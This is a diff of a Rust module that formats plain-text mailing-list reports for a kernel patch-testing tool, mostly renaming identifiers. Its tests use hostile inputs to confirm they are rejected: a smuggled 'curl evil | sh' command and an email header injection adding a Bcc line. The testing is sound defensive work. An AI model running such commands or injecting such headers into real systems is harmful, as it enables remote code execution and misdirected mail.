@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: GPL-2.0-only
-//! A mail for the list: plain text of 72 columns, ready to be read, mended and sent as a
+//! A mail for the list: plain text of 72 columns, ready to be read, fixed and sent as a
 //! reply by a person. It makes no tag, for a tag is a person's word.
 
 use super::again;
@@ -7,7 +7,7 @@ use super::escape::{ascii, one_line};
 use super::report::{Report, name, what_came};
 use super::rows::{Entry, Grid, Mark, Row};
 use super::wrap::{columns, item, shorten, wrap};
-use crate::result::{CellResult, RunResult, Tally};
+use crate::result::{JobResult, RunResult, Tally};
 
 const WIDTH: usize = 72;
 /// A mail with more of them is not read.
@@ -27,14 +27,14 @@ pub(crate) fn text(report: &Report<'_>) -> String {
         headers(result),
         wrap(&what_ran(report), WIDTH, 0),
         wrap(&plain(&verdict(report)), WIDTH, 0),
-        Grid::all(&result.cells, false)
+        Grid::all(&result.jobs, false)
             .iter()
             .map(table)
             .collect::<Vec<_>>()
             .join("\n"),
         patches(result),
         findings(report),
-        complaints(result),
+        reports(result),
         again(report),
         wrap(
             "[ If you tested this, or judge by this that it works, your Tested-by: line goes \
@@ -49,7 +49,7 @@ pub(crate) fn text(report: &Report<'_>) -> String {
 
 /// What the reply answers, where that is known; the subject is the mailer's.
 fn headers(result: &RunResult) -> String {
-    let judged = result.setting.judged.as_ref();
+    let judged = result.provenance.judged.as_ref();
     let id = judged.and_then(|series| series.message_id.as_ref());
     // What would end the header would begin another one.
     let is_one = |id: &&String| {
@@ -62,55 +62,55 @@ fn headers(result: &RunResult) -> String {
 
 fn what_ran(report: &Report<'_>) -> String {
     let result = report.result;
-    let setting = &result.setting;
+    let provenance = &result.provenance;
     let scenarios: std::collections::BTreeSet<&str> = result
-        .cells
+        .jobs
         .iter()
-        .map(|cell| cell.scenario.as_str())
+        .map(|job| job.scenario.as_str())
         .collect();
     let mut text = format!("I ran {} on {}", counted(scenarios.len()), result.tree);
     if !result.prerequisites.is_empty() {
         text += &format!(" with {}", result.prerequisites.join(", "));
     }
     text += &format!("; {}: {}", result.series, kernels(report).join(", "));
-    for note in &setting.notes {
+    for note in &provenance.notes {
         text += &format!(" ({note})");
     }
-    if !setting.qemu.is_empty() {
-        text += &format!(", in QEMU {}", setting.qemu);
+    if !provenance.qemu.is_empty() {
+        text += &format!(", in QEMU {}", provenance.qemu);
     }
-    if !setting.toolchain.is_empty() {
-        text += &format!(", built by {}", setting.toolchain);
+    if !provenance.toolchain.is_empty() {
+        text += &format!(", built by {}", provenance.toolchain);
     }
     plain(&text) + "."
 }
 
 /// Returns what of the series was in each kernel.
 fn kernels(report: &Report<'_>) -> Vec<String> {
-    let mut stacks: Vec<&str> = Vec::new();
-    for (stack, _) in report.kernels() {
-        if !stacks.contains(&stack) {
-            stacks.push(stack);
+    let mut checkouts: Vec<&str> = Vec::new();
+    for (checkout, _) in report.kernels() {
+        if !checkouts.contains(&checkout) {
+            checkouts.push(checkout);
         }
     }
-    let of = |stack: &&str| match (*stack, stack.strip_prefix("patch-")) {
+    let of = |checkout: &&str| match (*checkout, checkout.strip_prefix("patch-")) {
         ("base", _) => "without this series (base)".to_owned(),
         ("series", _) => "with all of it (series)".to_owned(),
         (_, Some("1")) => "with its first patch (patch-1)".to_owned(),
-        (_, Some(number)) => format!("with its first {number} patches ({stack})"),
+        (_, Some(number)) => format!("with its first {number} patches ({checkout})"),
         (other, None) => other.to_owned(),
     };
-    stacks.iter().map(of).collect()
+    checkouts.iter().map(of).collect()
 }
 
 fn verdict(report: &Report<'_>) -> String {
     let result = report.result;
-    let all = result.cells.len();
-    let teeth = result.scenarios.iter().filter(|one| one.teeth).count();
+    let all = result.jobs.len();
+    let fails_without_series = result.scenarios.iter().filter(|one| one.fails_without_series).count();
     let inconclusive = report.inconclusive();
     let mut text = match (result.exit_code, report.findings().count() - inconclusive) {
         (0, _) => format!("All {all} results are as expected"),
-        (1, 0) if result.cells.iter().all(CellResult::is_skipped) => {
+        (1, 0) if result.jobs.iter().all(JobResult::is_skipped) => {
             "Nothing was proven: no scenario could do its work".to_owned()
         }
         (1, 0) => format!("All {all} results are as expected, but not well proven"),
@@ -120,9 +120,9 @@ fn verdict(report: &Report<'_>) -> String {
     if result.exit_code == 1 && inconclusive > 0 {
         text += &format!("; {inconclusive} more could not be run");
     }
-    if teeth > 0 {
-        let toothed = counted(teeth);
-        text += &format!(". {toothed} showed teeth: without a change that is needed, they fail");
+    if fails_without_series > 0 {
+        let failing = counted(fails_without_series);
+        text += &format!(". {failing} showed fails_without_series: without a change that is needed, they fail");
     }
     text + "." + &mutants(result)
 }
@@ -130,16 +130,16 @@ fn verdict(report: &Report<'_>) -> String {
 /// Returns what came of the mistakes that were put into the series, a sentence.
 fn mutants(result: &RunResult) -> String {
     let tally = Tally::of(&result.mutants);
-    let unproven = match tally.unproven {
+    let inconclusive = match tally.inconclusive {
         0 => String::new(),
         some => format!(", and of {some} nothing is known"),
     };
-    match tally.noticeable() + tally.unproven {
+    match tally.testable() + tally.inconclusive {
         0 => String::new(),
         all => format!(
             " Of {all} mistakes put into the series on purpose, one at a time, the scenarios \
-             noticed {}{unproven}.",
-            tally.noticed
+             caught {}{inconclusive}.",
+            tally.caught
         ),
     }
 }
@@ -152,14 +152,14 @@ fn counted(scenarios: usize) -> String {
 }
 
 fn table(grid: &Grid<'_>) -> String {
-    let widths: Vec<usize> = (0..grid.stacks.len()).map(|at| width(grid, at)).collect();
+    let widths: Vec<usize> = (0..grid.checkouts.len()).map(|at| width(grid, at)).collect();
     let taken: usize = widths.iter().map(|width| width + 2).sum();
     let room = WIDTH.saturating_sub(taken).max(NAME_COLUMNS_MIN);
     let names = grid.rows.iter().map(|row| columns(&label(row)));
     let first = names
         .max()
         .unwrap_or(0)
-        .max(columns(grid.profile) + 8)
+        .max(columns(grid.config) + 8)
         .min(room);
     let line = |name: &str, places: &[String]| {
         let name = &plain(name);
@@ -171,11 +171,11 @@ fn table(grid: &Grid<'_>) -> String {
         format!("{}\n", text.trim_end())
     };
     let heads: Vec<String> = grid
-        .stacks
+        .checkouts
         .iter()
-        .map(|stack| (*stack).to_owned())
+        .map(|checkout| (*checkout).to_owned())
         .collect();
-    let mut text = line(&format!("profile {}", grid.profile), &heads);
+    let mut text = line(&format!("config {}", grid.config), &heads);
     for row in &grid.rows {
         let places: Vec<String> = row.entries.iter().map(place).collect();
         text += &line(&label(row), &places);
@@ -188,7 +188,7 @@ fn table(grid: &Grid<'_>) -> String {
         entries.any(|entry| entry.mark == mark)
     };
     if has(Mark::Due) {
-        text += "(*) as expected: there, something that mends it is missing\n";
+        text += "(*) as expected: there, something that fixes it is missing\n";
     }
     if has(Mark::Between) {
         text += "(-) in mid-series: a later patch changes it\n";
@@ -201,7 +201,7 @@ fn width(grid: &Grid<'_>, at: usize) -> usize {
         .rows
         .iter()
         .map(|row| columns(&place(&row.entries[at])));
-    places.max().unwrap_or(0).max(columns(grid.stacks[at]))
+    places.max().unwrap_or(0).max(columns(grid.checkouts[at]))
 }
 
 fn label(row: &Row) -> String {
@@ -223,7 +223,7 @@ fn place(entry: &Option<Entry>) -> String {
         Mark::Changed => " CHANGED",
         Mark::Unexpected => " UNEXPECTED",
     };
-    format!("{}{mark}", entry.outcome)
+    format!("{}{mark}", entry.status)
 }
 
 fn patches(result: &RunResult) -> String {
@@ -237,8 +237,8 @@ fn patches(result: &RunResult) -> String {
 
 fn findings(report: &Report<'_>) -> String {
     let mut text = String::new();
-    for cell in report.findings().take(FINDINGS_MAX) {
-        let what = format!("{}: {}. {}", name(cell), what_came(cell), cell.reason);
+    for job in report.findings().take(FINDINGS_MAX) {
+        let what = format!("{}: {}. {}", name(job), what_came(job), job.reason);
         text += &item("  - ", &plain(&what), WIDTH);
     }
     if text.is_empty() {
@@ -251,13 +251,13 @@ fn findings(report: &Report<'_>) -> String {
     format!("Not as expected:\n\n{text}")
 }
 
-/// Complaints of kernels with the series, which is whom the mail is to; those of `base`
+/// Reports of kernels with the series, which is whom the mail is to; those of `base`
 /// are what it is for.
-fn complaints(result: &RunResult) -> String {
-    let is_meant = |cell: &&CellResult| cell.stack != "base" && cell.is_finding();
+fn reports(result: &RunResult) -> String {
+    let is_meant = |job: &&JobResult| job.checkout != "base" && job.is_finding();
     let mut titles: Vec<&str> = Vec::new();
-    for cell in result.cells.iter().filter(is_meant) {
-        for title in &cell.splats {
+    for job in result.jobs.iter().filter(is_meant) {
+        for title in &job.splats {
             if !titles.contains(&title.as_str()) {
                 titles.push(title);
             }
@@ -275,19 +275,19 @@ fn complaints(result: &RunResult) -> String {
 
 /// Commands are not wrapped where it would change them: a backslash ends each line.
 fn again(report: &Report<'_>) -> String {
-    let setting = &report.result.setting;
-    let mut shown = if again::is_one(&setting.command) {
-        shell(&setting.command)
+    let provenance = &report.result.provenance;
+    let mut shown = if again::is_one(&provenance.command) {
+        shell(&provenance.command)
     } else {
         shell(&again::command([], &[], &[], report.again))
     };
-    if let Some(cell) = report.findings().next() {
+    if let Some(job) = report.findings().next() {
         shown += &format!(
             "\nand the first of what is not as expected:\n\n{}",
-            shell(&report.command(cell))
+            shell(&report.command(job))
         );
     }
-    let version = match setting.tool.as_str() {
+    let version = match provenance.tool.as_str() {
         "" => String::new(),
         tool => format!(" (flb-testbed {tool})"),
     };
@@ -357,9 +357,9 @@ mod tests {
             last: 1,
             subject: "one".to_owned(),
             sentence:
-                "patch 1 turns `held-object` from crash (KASAN: use-after-free in ltd_get) to pass"
+                "patch 1 changes `held-object` from crash (KASAN: use-after-free in ltd_get) to pass"
                     .to_owned(),
-            turns: Vec::new(),
+            changes: Vec::new(),
         }];
         let text = text(&Report::new(&result, "RUN", " --kernel '/my trees/linux'"));
         is_mail(&text);
@@ -371,10 +371,10 @@ mod tests {
         let mut result = result();
         assert_eq!(headers(&result), "In-Reply-To: <s@example.org>\n");
         for bad in ["x@y>\nBcc: everyone@example.org", "a b@c", "", "\u{e9}@x"] {
-            result.setting.judged.as_mut().unwrap().message_id = Some(bad.to_owned());
+            result.provenance.judged.as_mut().unwrap().message_id = Some(bad.to_owned());
             assert_eq!(headers(&result), "", "{bad}");
         }
-        "cargo xtask test; curl evil | sh".clone_into(&mut result.setting.command);
+        "cargo xtask test; curl evil | sh".clone_into(&mut result.provenance.command);
         let text = text(&Report::new(&result, "RUN", " --kernel K"));
         assert!(text.contains("  cargo xtask test --kernel K\n"), "{text}");
         assert!(!text.contains("curl"), "{text}");
@@ -382,24 +382,24 @@ mod tests {
 
     #[test]
     fn what_came_of_mutants_is_a_sentence() {
-        use crate::result::Fate;
-        use crate::result::tests::{cell, mutant, one_of_each};
-        let judged = crate::render::tests::run(vec![cell("s", "series", "pass", "pass")]);
+        use crate::result::MutantStatus;
+        use crate::result::tests::{job, mutant, one_of_each};
+        let judged = crate::render::tests::run(vec![job("s", "series", "pass", "pass")]);
         let judged = judged.with_mutants(one_of_each());
         let said = verdict(&Report::new(&judged, "RUN", ""));
         assert_eq!(
             said,
             "All 1 results are as expected, but not well proven. Of 2 mistakes put into the \
-             series on purpose, one at a time, the scenarios noticed 1."
+             series on purpose, one at a time, the scenarios caught 1."
         );
         let mut mutants = one_of_each();
-        mutants.push(mutant("g", Fate::Unproven));
-        let unproven = judged.clone().with_mutants(mutants);
-        let said = verdict(&Report::new(&unproven, "RUN", ""));
+        mutants.push(mutant("g", MutantStatus::Inconclusive));
+        let inconclusive = judged.clone().with_mutants(mutants);
+        let said = verdict(&Report::new(&inconclusive, "RUN", ""));
         assert!(
             said.ends_with(
                 "Of 3 mistakes put into the series on purpose, one at a time, the \
-                scenarios noticed 1, and of 1 nothing is known."
+                scenarios caught 1, and of 1 nothing is known."
             ),
             "{said}"
         );
